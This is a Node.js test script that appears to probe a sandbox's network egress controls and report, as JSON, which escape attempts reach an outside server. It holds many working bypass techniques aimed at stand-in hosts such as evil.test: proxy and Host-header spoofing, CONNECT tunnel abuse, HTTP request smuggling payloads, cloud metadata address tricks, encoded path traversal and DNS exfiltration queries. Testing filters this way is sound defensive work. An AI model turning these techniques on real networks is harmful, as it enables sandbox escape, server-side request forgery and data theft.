// Runs inside a sandbox: tries every way out and says of each whether something outside was reached. Printed as one JSON object.
const { execFile } = require('node:child_process');
const dgram = require('node:dgram');
const http = require('node:http');
const net = require('node:net');
const tls = require('node:tls');

const { server, marker, gateway, elsewhere } = JSON.parse(process.argv[1]);
const limitMs = 3_000;
const found = {};
const seen = (text) => (text.includes(marker) ? 'reached' : 'refused');

const run = (program, argv, env = process.env) =>
  new Promise((resolve) => {
    execFile(program, argv, { timeout: limitMs, env }, (_error, stdout, stderr) => resolve(`${stdout}${stderr}`));
  });
const curl = async (name, ...argv) => {
  found[`curl ${name}`] = seen(await run('/usr/bin/curl', ['-sS', '-k', '-m', '3', ...argv]));
};
/** Sends bytes as they are and reads what comes. */
const talk = (host, port, bytes) =>
  new Promise((resolve) => {
    let text = '';
    const socket = net.connect({ host, port }, () => socket.write(bytes));
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    socket.on('error', () => undefined).on('close', () => resolve(text));
    socket.setTimeout(limitMs, () => socket.destroy());
    setTimeout(() => socket.destroy(), limitMs);
  });
const raw = async (name, port, bytes) => {
  found[`raw ${name}`] = gateway === null ? 'refused' : seen(await talk(gateway, port, bytes));
};
const reach = (name, host, port) =>
  new Promise((resolve) => {
    const end = (result) => resolve((found[`raw ${name}`] = result));
    const socket = net.connect({ host, port }, () => end('reached'));
    socket.on('error', () => end('refused'));
    setTimeout(() => (socket.destroy(), end(found[`raw ${name}`] ?? 'refused')), limitMs);
  });
const udp = (name, host, port, message) =>
  new Promise((resolve) => {
    const socket = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
    const end = (result) => resolve((found[`raw ${name}`] ??= result));
    socket.on('message', () => end('reached')).on('error', () => end('refused'));
    socket.send(message, port, host, (error) => error && end('refused'));
    setTimeout(() => (end('refused'), socket.close()), limitMs);
  });
const fetching = async (name, url, options) => {
  const text = await fetch(url, { signal: AbortSignal.timeout(limitMs), ...options }).then(
    (response) => response.text(),
    () => '',
  );
  found[`fetch ${name}`] = seen(text);
};
/** By `node:http`, which sends the Host header that it is given; `fetch` replaces it. */
const asking = (name, url, headers) =>
  new Promise((resolve) => {
    const end = (text) => resolve((found[`node ${name}`] = seen(text)));
    const request = http.get({
      host: gateway ?? '127.0.0.1',
      port: 3128,
      path: url,
      headers,
      timeout: limitMs,
      agent: new http.Agent(),
    });
    request.on('timeout', () => request.destroy()).on('error', () => end(''));
    request.on('response', (response) => {
      let text = '';
      response.on('data', (chunk) => (text += chunk)).on('close', () => end(text));
    });
  });
const hello = (name, servername) =>
  new Promise((resolve) => {
    const end = (result) => resolve((found[`raw ${name}`] ??= result));
    if (gateway === null) return end('refused');
    const socket = tls.connect({ host: gateway, port: 443, servername, rejectUnauthorized: false }, () => {
      socket.write('GET / HTTP/1.1\r\nhost: evil.test\r\nconnection: close\r\n\r\n');
    });
    let text = '';
    socket
      .on('data', (chunk) => (text += chunk))
      .on('error', () => end('refused'))
      .on('close', () => end(seen(text)));
    setTimeout(() => (socket.destroy(), end('refused')), limitMs);
  });
const question = (name, type) => {
  const labels = name.split('.').flatMap((label) => [Buffer.from([label.length]), Buffer.from(label)]);
  return Buffer.concat([Buffer.from([7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, type, 0, 1])]);
};
const get = (target, ...headers) => [`GET ${target} HTTP/1.1`, ...headers, '', ''].join('\r\n');
const direct = ['--noproxy', '*'];
const to = (name, port) => ['--resolve', `${name}:${port}:${gateway ?? '127.0.0.1'}`];
const proxy = gateway === null ? [] : ['-x', `http://${gateway}:3128`];

const attacks = [
  () => curl('a host without a rule', 'http://evil.test/'),
  () => curl('TLS to a host without a rule', 'https://evil.test/'),
  () => curl('without the proxy', ...direct, 'http://evil.test/'),
  () => curl('without the proxy, by TLS name', ...direct, ...to('evil.test', 443), 'https://evil.test/'),
  () =>
    curl('another Host header', ...direct, ...to('allowed.test', 80), '-H', 'Host: evil.test', 'http://allowed.test/'),
  () => curl('another Host header than the proxy’s', ...proxy, '-H', 'Host: evil.test', 'http://allowed.test/'),
  () =>
    curl(
      'another TLS name in a tunnel',
      ...proxy,
      '--connect-to',
      'evil.test:443:allowed.test:443',
      'https://evil.test/',
    ),
  () => curl('a redirect', '-L', 'http://allowed.test/redirect'),
  () => curl('another port', 'http://allowed.test:8080/'),
  () => curl('another port by tunnel', '-p', ...proxy, 'http://allowed.test:8080/'),
  () => curl('a method', '-X', 'POST', '-d', 'x', 'http://api.test/public'),
  () => curl('a path', 'http://api.test/private'),
  () => curl('a path by dots', '--path-as-is', 'http://api.test/public/../private'),
  () => curl('a path by encoded dots', '--path-as-is', 'http://api.test/public/%2e%2e/private'),
  () => curl('a path in a tunnel', '-p', ...proxy, 'http://api.test/private'),
  () => curl('an address', `http://${server}/`),
  () => curl('an address by TLS', `https://${server}/`),
  () => curl('a name of a private address', 'http://private.test/'),
  () => curl('a name of the metadata service', 'http://metadata.test/'),
  () => curl('a name of the host', 'http://host.test/'),
  () => curl('a name of the gateway itself', 'http://self.test/'),
  () => curl('the metadata service', 'http://169.254.169.254/'),
  () => curl('the metadata service in decimal', 'http://2852039166/'),
  () => curl('IPv6', `http://[::ffff:${server}]/`),
  () => curl('a parent of a wildcard', 'https://wild.test/'),
  () => reach('the server', server, 80),
  () => reach('the server by TLS port', server, 443),
  () => reach('the server’s DNS by TCP', server, 53),
  ...elsewhere.map(
    ([name, host, port]) =>
      () =>
        reach(name, host, port),
  ),
  () => reach('IPv6', '2001:db8::1', 80),
  () => udp('UDP', server, 53, question('evil.test', 1)),
  () => udp('UDP by IPv6', '2001:db8::1', 53, question('evil.test', 1)),
  () => raw('CONNECT', 3128, 'CONNECT evil.test:443 HTTP/1.1\r\n\r\n'),
  () => raw('CONNECT to an address', 3128, `CONNECT ${server}:22 HTTP/1.1\r\n\r\n`),
  () => raw('CONNECT to a port', 3128, 'CONNECT allowed.test:22 HTTP/1.1\r\nhost: allowed.test:22\r\n\r\n'),
  () =>
    raw(
      'CONNECT with a request behind it',
      3128,
      `CONNECT evil.test:80 HTTP/1.1\r\n\r\n${get('http://evil.test/', 'host: evil.test')}`,
    ),
  () =>
    raw(
      'a tunnel with a request to another host',
      3128,
      `CONNECT allowed.test:80 HTTP/1.1\r\nhost: allowed.test\r\n\r\n${get('/', 'host: evil.test')}`,
    ),
  () =>
    raw(
      'a tunnel with another port in it',
      3128,
      `CONNECT allowed.test:80 HTTP/1.1\r\nhost: allowed.test\r\n\r\n${get('/', 'host: allowed.test:8080')}`,
    ),
  () => raw('CONNECT on a port that is no proxy', 80, 'CONNECT evil.test:80 HTTP/1.1\r\nhost: evil.test:80\r\n\r\n'),
  () => raw('two Host headers', 3128, get('http://allowed.test/', 'host: allowed.test', 'host: evil.test')),
  () => raw('a user name that looks like a host', 3128, get('http://allowed.test@evil.test/', 'host: evil.test')),
  () =>
    raw(
      'length and chunks',
      80,
      `POST / HTTP/1.1\r\nhost: allowed.test\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${get('/smuggled', 'host: evil.test')}`,
    ),
  () =>
    raw(
      'two lengths',
      80,
      `POST / HTTP/1.1\r\nhost: allowed.test\r\ncontent-length: 0\r\ncontent-length: 60\r\n\r\n${get('/smuggled', 'host: evil.test')}`,
    ),
  () =>
    raw(
      'chunks in disguise',
      80,
      `POST / HTTP/1.1\r\nhost: allowed.test\r\ntransfer-encoding: xchunked\r\n\r\n0\r\n\r\n${get('/smuggled', 'host: evil.test')}`,
    ),
  () => raw('a broken header', 80, 'GET / HTTP/1.1\r\nhost: evil.test\r\nx : \u0000\r\n\r\n'),
  () => raw('another protocol', 443, 'SSH-2.0-client\r\n'),
  () => raw('another protocol on the HTTP port', 80, '\u0000\u0001\u0002\u0003'),
  () => raw('HTTP without a version', 80, 'GET http://evil.test/\r\n\r\n'),
  () => raw('no Host', 80, get('/')),
  () => hello('TLS with another name', 'evil.test'),
  () => hello('TLS without a name', ''),
  () => raw('a DNS question by TCP', 53, Buffer.concat([Buffer.from([0, 31]), question('stolen-data.evil.test', 16)])),
  () => fetching('by the proxy', 'http://evil.test/'),
  () => fetching('by TLS', 'https://evil.test/'),
  () => fetching('an address', `http://${server}/`),
  () => fetching('a redirect', 'http://allowed.test/redirect'),
  () => asking('another Host header', 'http://allowed.test/', { host: 'evil.test' }),
  () => asking('a Host header with a port', 'http://allowed.test/', { host: 'allowed.test:8080' }),
  async () => {
    if (gateway !== null) await run('nslookup', ['-type=txt', 'c3RvbGVu.stolen-data.evil.test', gateway]);
  },
  async () => {
    found['raw ICMP'] = (await run('ping', ['-c', '1', '-W', '2', server])).includes('1 packets received')
      ? 'reached'
      : 'refused';
  },
];

void (async () => {
  const queue = [...attacks];
  await Promise.all(
    Array.from({ length: 24 }, async () => {
      for (let attack = queue.shift(); attack; attack = queue.shift()) await attack();
    }),
  );
  process.stdout.write(JSON.stringify(found), () => process.exit(0));
})();
